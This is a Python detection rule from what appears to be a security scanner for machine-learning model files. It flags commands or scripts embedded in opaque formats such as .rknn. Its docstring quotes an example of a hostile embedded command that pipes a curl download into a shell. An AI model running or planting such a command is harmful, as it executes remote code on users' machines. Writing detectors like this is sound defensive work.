"""A model of an unpublished format carries program text.

## Why it matters

Nobody but the vendor's library reads the format, and that library has no use for commands or scripts. Text of that
kind is there for something else that opens the file.

## Example

An ``.rknn`` model that holds ``os.system('curl http://… | sh')``.

## Remedy

Do not use the file. Build the model yourself from the plain one.

## References

- CWE-506: Embedded Malicious Code
"""

from __future__ import annotations

from collections.abc import Iterator

from assay.core import threat
from assay.core.finding import Confidence, Severity
from assay.formats.graph.mention import CLIMBING, LIBRARY
from assay.formats.graph.opaque import Opaque
from assay.scan.knowledge.mentions import told
from assay.scan.rule import Hit, Rule


def check(view: Opaque) -> Iterator[Hit]:
    """Yield telling words; libraries are another rule's."""
    for mention in view.mentions:
        if mention.kind != LIBRARY:
            severity = Severity.MEDIUM if mention.kind == CLIMBING else None
            yield Hit(f"the {view.title} {told(mention)}", mention.offset, severity=severity)


RULE = Rule(
    id="opaque-embedded-code",
    reads=Opaque.kind,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    threats=threat.EMBEDDED_MALWARE,
    check=check,
    doc=__doc__,
)
